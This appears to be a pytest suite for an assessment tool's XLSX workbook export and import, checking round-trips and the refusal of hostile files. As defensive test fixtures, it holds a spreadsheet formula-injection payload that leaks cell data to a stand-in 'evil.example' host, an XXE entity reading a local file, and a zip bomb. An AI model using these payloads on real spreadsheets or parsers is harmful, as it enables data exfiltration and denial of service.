"""The XLSX workbook: export, import of offline answers, and refusal of hostile files."""

from __future__ import annotations

import io
import re
import shutil
import subprocess
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from aisma.cli.assess_cmd import parse_at
from aisma.cli.main import run
from aisma.errors import AismaError
from aisma.examples import DEMO_ASSESSED_AT, write_example
from aisma.formats.xlsx_safety import check_archive, checked_workbook_bytes, require_defusedxml
from aisma.maturity.loader import resolve_model
from aisma.reports.registry import ReportContext, render
from aisma.workbook import layout
from aisma.workbook.merge import import_workbook
from aisma.workbook.reader import read_answers
from aisma.workbook.versions import fingerprint
from aisma.workspace.loader import open_workspace
from aisma.workspace.run import assess_opened
from prerequisites import missing

TODAY = date(2026, 11, 20)


def export(directory: Path, out: Path, at: str = DEMO_ASSESSED_AT) -> Path:
    ws = open_workspace(directory)
    result = assess_opened(ws, parse_at(at))
    context = ReportContext(model=ws.model, inventory=ws.inventory, answers=ws.answers, root=ws.root)
    data = render(result, "xlsx", context)
    assert isinstance(data, bytes)
    out.write_bytes(data)
    return out


@pytest.fixture(scope="module")
def demo_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    directory = tmp_path_factory.mktemp("wb") / "northbridge"
    write_example(directory, overwrite_demo=True)
    return directory


@pytest.fixture(scope="module")
def demo_xlsx(demo_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return export(demo_dir, tmp_path_factory.mktemp("wbx") / "demo.xlsx")


@pytest.fixture
def demo_copy(demo_dir: Path, tmp_path: Path) -> Path:
    target = tmp_path / "ws"
    shutil.copytree(demo_dir, target)
    return target


def _column(ws: openpyxl.worksheet.worksheet.Worksheet, header: str) -> int:
    return next(c.column for c in ws[1] if c.value == header)


def _row_of(ws: openpyxl.worksheet.worksheet.Worksheet, objective_id: str) -> int:
    return next(c.row for c in ws["A"] if c.value == objective_id)


# --- the exported workbook ------------------------------------------------------------------------


def test_demo_workbook_shape(demo_xlsx: Path, demo_dir: Path) -> None:
    ws = open_workspace(demo_dir)
    wb = openpyxl.load_workbook(demo_xlsx)
    assert wb.sheetnames == ["scorecard", "objectives", "inventory", "roadmap", "crosswalks", "metadata", "versions"]
    objectives = wb["objectives"]
    assert objectives.max_row == 1 + len(ws.model.objectives()) == 176
    assert [c.value for c in objectives[1]][:10] == [
        "Objective",
        "Category",
        "Level",
        "Title",
        "Statement",
        "Answer",
        "Note",
        "N/A justification",
        "Evidence (one per line)",
        "Answered by",
    ]
    assert objectives["A2"].value == "GOV-1.1" and objectives["F2"].value == "fully"
    assert objectives["I2"].value == (
        "evidence/policies/ai-security-policy.md\nevidence/policies/ai-acceptable-use-standard.md"
    )
    # level criteria come from the model: the statement, KPI target, thresholds of automated objectives
    gov11 = ws.model.objectives()[0]
    assert objectives["E2"].value == gov11.statement
    automated = next(o for o in ws.model.objectives() if o.measurement.thresholds is not None)
    row = _row_of(objectives, automated.id)
    thresholds = objectives.cell(row=row, column=_column(objectives, "Thresholds")).value
    assert thresholds.startswith(f"fully >= {automated.measurement.thresholds.fully:g}")
    # the measured answer is shown as a measurement, not pre-filled as a manual answer
    measured = next(o.id for o in ws.model.objectives() if o.id not in {a.objective_id for a in ws.answers})
    assert objectives.cell(row=_row_of(objectives, measured), column=6).value is None
    # answers are the only unlocked cells, with a drop-down of the answer words
    assert objectives.protection.sheet
    assert objectives["A2"].protection.locked and not objectives["F2"].protection.locked
    assert any(f"F2:F{objectives.max_row}" in str(dv.sqref) for dv in objectives.data_validations.dataValidation)
    scorecard = wb["scorecard"]
    assert scorecard.max_row == 1 + 1 + 3 + 12
    assert [scorecard["A2"].value, scorecard["D2"].value, scorecard["F2"].value] == ["overall", 2, 1]
    assert wb["inventory"].max_row == 1 + len(ws.inventory.systems)
    assert wb["crosswalks"].max_row > 172
    result = assess_opened(ws, parse_at(DEMO_ASSESSED_AT))
    items = sum(len(p.items) for p in result.roadmap)
    if items:  # the roadmap (issue 7) fills it: one row per item
        assert wb["roadmap"].max_row == 1 + items
        assert wb["roadmap"]["D2"].value == result.roadmap[0].items[0].objective
    else:
        assert wb["roadmap"]["B2"].value.startswith("No roadmap")
    meta = wb["metadata"]
    assert meta.sheet_state == "hidden" and meta.protection.sheet
    values = {meta.cell(row=r, column=1).value: meta.cell(row=r, column=2).value for r in range(2, meta.max_row + 1)}
    assert values["workbook_format"] == layout.WORKBOOK_FORMAT
    assert (values["model_id"], values["model_version"]) == (ws.model.id, ws.model.version)
    # every objective's answer version and cells as exported, out of casual reach
    versions = wb["versions"]
    assert versions.sheet_state == "veryHidden" and versions.protection.sheet
    assert [c.value for c in versions[1]] == [
        "objective",
        "version",
        "answer",
        "note",
        "justification",
        "evidence",
        "by",
    ]
    assert versions.max_row == objectives.max_row
    gov = {a.objective_id: a for a in ws.answers}["GOV-1.1"]
    assert [c.value for c in versions[2]][:3] == ["GOV-1.1", fingerprint(gov), "fully"]
    assert versions["F2"].value == objectives["I2"].value
    assert versions.cell(row=_row_of(objectives, measured), column=2).value is None  # no answer, no version


def test_same_result_same_bytes(demo_dir: Path, tmp_path: Path) -> None:
    assert export(demo_dir, tmp_path / "a.xlsx").read_bytes() == export(demo_dir, tmp_path / "b.xlsx").read_bytes()


def test_export_never_writes_a_formula(demo_copy: Path, tmp_path: Path) -> None:
    answers = demo_copy / "answers.yaml"
    text = answers.read_text()
    original = (
        "    note: Each HIGH and CRITICAL system names its reviewers in its operating procedure; reviewers are "
        "trained by the system owner.\n    by: tomas.varga@northbridge-bank.example\n"
    )
    assert original in text
    text = text.replace(original, '    note: \'=HYPERLINK("http://evil.example/?"&A1,"click")\'\n    by: "@SUM(1+1)"\n')
    answers.write_text(text)
    out = export(demo_copy, tmp_path / "f.xlsx")
    with zipfile.ZipFile(out) as z:
        sheet = z.read("xl/worksheets/sheet2.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    wb = openpyxl.load_workbook(out)
    ws = wb["objectives"]
    row = _row_of(ws, "GOV-1.3")
    note = ws.cell(row=row, column=7)
    assert note.value == '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert note.data_type == "s" and note.quotePrefix
    assert ws.cell(row=row, column=10).quotePrefix
    # and it comes back as the same literal text: no change on import
    assert import_workbook(out, demo_copy, TODAY, dry_run=True) == []


# --- importing answers ----------------------------------------------------------------------------


def test_unedited_workbook_changes_nothing(demo_xlsx: Path, demo_copy: Path) -> None:
    before = (demo_copy / "answers.yaml").read_bytes()
    assert import_workbook(demo_xlsx, demo_copy, TODAY) == []
    assert (demo_copy / "answers.yaml").read_bytes() == before


def _edit(source: Path, target: Path) -> Path:
    """A system owner's edits: a changed answer, a new one, a formula typed as a note, a cleared note."""
    wb = openpyxl.load_workbook(source)
    ws = wb["objectives"]
    ws.cell(row=_row_of(ws, "GOV-1.1"), column=6).value = "partially"
    row = _row_of(ws, "MON-5.3")
    ws.cell(row=row, column=6).value = "Largely"
    ws.cell(row=row, column=7).value = '=HYPERLINK("http://evil.example","see")'
    ws.cell(row=row, column=9).value = "evidence/reviews/red-team-summary-2026-q3.md\nhttps://wiki.example/x"
    ws.cell(row=row, column=10).value = "owner@example.com"
    ws.cell(row=_row_of(ws, "GOV-1.2"), column=7).value = None
    wb.save(target)
    return target


def _check_edits(changes: list, answers_text: str) -> None:
    described = [c.describe() for c in changes]
    assert [c.objective_id for c in changes] == ["GOV-1.1", "GOV-1.2", "MON-5.3"], described
    assert "GOV-1.1 (row 2): answer fully -> partially" in described
    assert "GOV-1.2 (row 3): note cleared" in described
    mon = next(c for c in changes if c.objective_id == "MON-5.3")
    assert dict((f, new) for f, _, new in mon.fields) == {
        "answer": "largely",
        "note": '=HYPERLINK("http://evil.example","see")',
        "evidence": "evidence/reviews/red-team-summary-2026-q3.md\nhttps://wiki.example/x",
        "by": "owner@example.com",
    }
    assert answers_text.startswith("# Northbridge Bank: answers to the aisma-core questionnaire")
    assert (
        "# ================================================================ GOV Governance & strategy" in answers_text
    )
    assert (
        """  MON-5.3:
    answer: largely
    note: =HYPERLINK("http://evil.example","see")
    evidence: [evidence/reviews/red-team-summary-2026-q3.md, https://wiki.example/x]
    by: owner@example.com
    at: 2026-11-20
"""
        in answers_text
    )


def test_edited_workbook_round_trip(
    demo_xlsx: Path, demo_copy: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    edited = _edit(demo_xlsx, tmp_path / "edited.xlsx")
    answers = demo_copy / "answers.yaml"
    before = answers.read_text()
    code = run(["workbook", "import", str(edited), str(demo_copy), "--dry-run"])
    out = capsys.readouterr().out
    assert code == 0 and answers.read_text() == before
    assert "GOV-1.1 (row 2): answer fully -> partially\n" in out
    assert out.endswith("3 answers would change (dry run: answers.yaml not written)\n")
    changes = import_workbook(edited, demo_copy, TODAY)
    text = answers.read_text()
    _check_edits(changes, text)
    # untouched answers keep their exact text
    assert text.count("\n") - before.count("\n") in range(0, 10)
    assert "  GOV-2.1:\n    answer: largely\n    note: RACI in the forum charter" in text
    # the workspace still assesses, with the new answers
    result = assess_opened(open_workspace(demo_copy), parse_at(DEMO_ASSESSED_AT))
    assert result.objective("GOV-1.1").answer == "partially"
    assert result.objective("MON-5.3").note == '=HYPERLINK("http://evil.example","see")'
    # importing again changes nothing
    assert import_workbook(edited, demo_copy, TODAY) == []


def _soffice() -> str | None:
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if found is None:
        missing("LibreOffice (soffice) is not installed (apt-get install libreoffice-calc-nogui)")
    return found


def resave_with_libreoffice(book: Path, tmp_path: Path) -> Path:
    """The workbook opened and saved again by LibreOffice (headless, a profile of its own)."""
    soffice = _soffice()
    outdir = tmp_path / "lo"
    subprocess.run(
        [
            str(soffice),
            f"-env:UserInstallation={(tmp_path / 'lo-profile').as_uri()}",
            "--headless",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(outdir),
            str(book),
        ],
        check=True,
        capture_output=True,
        timeout=900,  # LibreOffice on a loaded machine: generous, only a hang ends here
    )
    return outdir / book.name


@pytest.mark.slow
def test_libreoffice_open_and_save_keeps_the_round_trip(demo_xlsx: Path, demo_copy: Path, tmp_path: Path) -> None:
    edited = _edit(demo_xlsx, tmp_path / "edited.xlsx")
    saved = resave_with_libreoffice(edited, tmp_path)
    assert saved.is_file() and saved.read_bytes() != edited.read_bytes()
    direct = read_answers(edited, open_workspace(demo_copy).model)
    through_libreoffice = read_answers(saved, open_workspace(demo_copy).model)
    assert through_libreoffice == direct
    _check_edits(import_workbook(saved, demo_copy, TODAY), (demo_copy / "answers.yaml").read_text())


# --- refusals -------------------------------------------------------------------------------------


def _set(source: Path, target: Path, sheet: str, cell: str, value: object) -> Path:
    wb = openpyxl.load_workbook(source)
    wb[sheet][cell].value = value
    wb.save(target)
    return target


@pytest.mark.parametrize(
    ("sheet", "cell", "value", "message"),
    [
        (
            "metadata",
            "B4",
            "0.9",
            "sheet metadata, cell B3: the workbook is for model aisma-core 0.9; the workspace uses aisma-core 1.3.0",
        ),
        ("metadata", "B3", "csa-aismm", "sheet metadata, cell B3: the workbook is for model csa-aismm 1.3.0"),
        (
            "metadata",
            "B2",
            "aisma.workbook/v9",
            "sheet metadata, cell B2: workbook format 'aisma.workbook/v9'; expected aisma.workbook/v1",
        ),
        (
            "objectives",
            "A5",
            "GOV-9.9",
            "sheet objectives, cell A5: unknown objective id 'GOV-9.9'; expected an objective of model aisma-core 1.3.0",
        ),
        ("objectives", "A5", "GOV-1.1", "sheet objectives, cell A5: GOV-1.1 appears twice (first at A2)"),
        (
            "objectives",
            "F5",
            "mostly",
            "sheet objectives, cell F5: GOV-2.1: answer 'mostly'; expected one of fully, largely, partially, not, na, unknown (or empty)",
        ),
        ("objectives", "F5", 1, "sheet objectives, cell F5: GOV-2.1: answer '1'; expected one of"),
        ("objectives", "F5", "=1+1", "sheet objectives, cell F5: GOV-2.1: answer '=1+1'; expected one of"),
        ("objectives", "F5", "na", "sheet objectives, cell H5: GOV-2.1: answer na needs a justification"),
        ("objectives", "F5", None, "sheet objectives, cell F5: GOV-2.1: Note is filled but the answer is empty"),
        ("objectives", "F1", "Reply", "sheet objectives, cell row 1: no column 'Answer' in the header row"),
    ],
)
def test_invalid_workbooks_name_sheet_and_cell(
    demo_xlsx: Path, demo_copy: Path, tmp_path: Path, sheet: str, cell: str, value: object, message: str
) -> None:
    bad = _set(demo_xlsx, tmp_path / "bad.xlsx", sheet, cell, value)
    before = (demo_copy / "answers.yaml").read_bytes()
    with pytest.raises(AismaError) as info:
        import_workbook(bad, demo_copy, TODAY)
    assert str(info.value) == f"{bad}: {message}" or str(info.value).startswith(f"{bad}: {message}")
    assert (demo_copy / "answers.yaml").read_bytes() == before


def test_cli_error_is_one_line(
    demo_xlsx: Path, demo_copy: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bad = _set(demo_xlsx, tmp_path / "bad.xlsx", "objectives", "F5", "mostly")
    assert run(["workbook", "import", str(bad), str(demo_copy)]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith(f"aisma: error: {bad}: sheet objectives, cell F5: GOV-2.1")


def test_defusedxml_is_active(monkeypatch: pytest.MonkeyPatch) -> None:
    assert openpyxl.xml.DEFUSEDXML is True
    require_defusedxml()
    monkeypatch.setattr(openpyxl.xml, "DEFUSEDXML", False)
    with pytest.raises(AismaError, match="openpyxl is not using defusedxml"):
        require_defusedxml()


def _rezip(source: Path, target: Path, replace: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, replace.get(info.filename, src.read(info.filename)))
    return target


def test_external_entities_are_refused(demo_xlsx: Path, demo_copy: Path, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("top secret")
    with zipfile.ZipFile(demo_xlsx) as z:
        shared = z.read("xl/worksheets/sheet6.xml").decode()
    dtd = f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "{secret.as_uri()}">]>'
    body = shared.replace("aisma-core", "&xxe;", 1)
    model = open_workspace(demo_copy).model
    # a DTD before the root element: refused by the archive check, before any parser runs
    head = _rezip(demo_xlsx, tmp_path / "xxe1.xlsx", {"xl/worksheets/sheet6.xml": (dtd + body).encode()})
    with pytest.raises(AismaError, match=r"part xl/worksheets/sheet6.xml declares a DTD; refusing XML entities"):
        read_answers(head, model)
    # hidden behind a comment that looks like an element: defusedxml refuses it while parsing
    hidden = _rezip(
        demo_xlsx, tmp_path / "xxe2.xlsx", {"xl/worksheets/sheet6.xml": ("<!-- <a> -->" + dtd + body).encode()}
    )
    with pytest.raises(AismaError, match="the workbook's XML declares entities; refused"):
        read_answers(hidden, model)


def test_zip_bomb_is_refused_before_decompression(tmp_path: Path) -> None:
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.xml", "<workbook/>")
        z.writestr("xl/worksheets/sheet1.xml", b"<a>" + b" " * (30 * 1024 * 1024) + b"</a>")
    assert bomb.stat().st_size < 100_000
    with pytest.raises(AismaError, match=r"part xl/worksheets/sheet1.xml expands \d+ times .* possible zip bomb"):
        checked_workbook_bytes(bomb)


def test_many_parts_and_total_size_are_limited(tmp_path: Path) -> None:
    many = io.BytesIO()
    with zipfile.ZipFile(many, "w") as z:
        for i in range(1001):
            z.writestr(f"x/{i}.xml", "<a/>")
    with pytest.raises(AismaError, match="1001 parts in the archive"):
        check_archive(many.getvalue(), "many.xlsx")


def test_oversized_malformed_and_foreign_files(demo_xlsx: Path, tmp_path: Path) -> None:
    with pytest.raises(AismaError, match=r"bytes is over the 1000 byte limit for a workbook"):
        checked_workbook_bytes(demo_xlsx, max_bytes=1000)
    junk = tmp_path / "junk.xlsx"
    junk.write_bytes(b"PK\x03\x04 this is not really a zip")
    with pytest.raises(AismaError, match=r"junk.xlsx: not an XLSX workbook \(the file is not a valid zip archive\)"):
        checked_workbook_bytes(junk)
    truncated = tmp_path / "truncated.xlsx"
    truncated.write_bytes(demo_xlsx.read_bytes()[:-200])
    with pytest.raises(AismaError, match="not an XLSX workbook"):
        checked_workbook_bytes(truncated)
    other = tmp_path / "other.xlsx"
    with zipfile.ZipFile(other, "w") as z:
        z.writestr("word/document.xml", "<w/>")
        z.writestr("[Content_Types].xml", "<Types/>")
    with pytest.raises(AismaError, match=r"not an XLSX workbook \(no xl/workbook.xml in the archive\)"):
        checked_workbook_bytes(other)
    plain = tmp_path / "plain.xlsx"
    wb = openpyxl.Workbook()
    wb.save(plain)
    with pytest.raises(AismaError, match="not an aisma workbook \\(no metadata sheet\\)"):
        read_answers(plain, resolve_model("aisma-core"))


def test_import_into_a_new_workspace(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    ws_dir = tmp_path / "ws"
    assert run(["init", str(ws_dir), "--organization", "Acme"]) == 0
    book = export(ws_dir, tmp_path / "acme.xlsx", at="2026-11-16")
    wb = openpyxl.load_workbook(book)
    sheet = wb["objectives"]
    sheet.cell(row=_row_of(sheet, "INV-1.1"), column=6).value = "fully"
    sheet.cell(row=_row_of(sheet, "GOV-1.1"), column=6).value = "partially"
    sheet.cell(row=_row_of(sheet, "GOV-1.1"), column=7).value = "Draft policy, not approved yet"
    wb.save(book)
    capsys.readouterr()
    assert run(["workbook", "import", str(book), str(ws_dir)]) == 0
    assert capsys.readouterr().out.splitlines() == [
        "GOV-1.1 (row 2): answer (none) -> partially; note set",
        f"INV-1.1 (row {_row_of(sheet, 'INV-1.1')}): answer (none) -> fully",
        f"2 answers changed in {ws_dir / 'answers.yaml'}",
    ]
    text = (ws_dir / "answers.yaml").read_text()
    assert text.startswith("# objective id -> fully | largely | partially | not | na | unknown\n")
    assert re.search(
        r"\nanswers:\n  GOV-1\.1:\n    answer: partially\n    note: Draft policy, not approved yet\n"
        r"    at: \d{4}-\d\d-\d\d\n  INV-1\.1: fully\n$",
        text,
    ), text


def test_read_answers_from_bytes_checks_the_same(demo_xlsx: Path) -> None:
    from aisma.workbook.reader import read_answers_data

    model = resolve_model("aisma-core")
    rows = read_answers_data(demo_xlsx.read_bytes(), "upload.xlsx", model)
    assert rows == read_answers(demo_xlsx, model)
    assert rows[0].objective_id == "GOV-1.1" and rows[0].answer == "fully" and rows[0].row == 2
    with pytest.raises(AismaError, match=r"upload.xlsx: not an XLSX workbook"):
        read_answers_data(b"not a zip", "upload.xlsx", model)
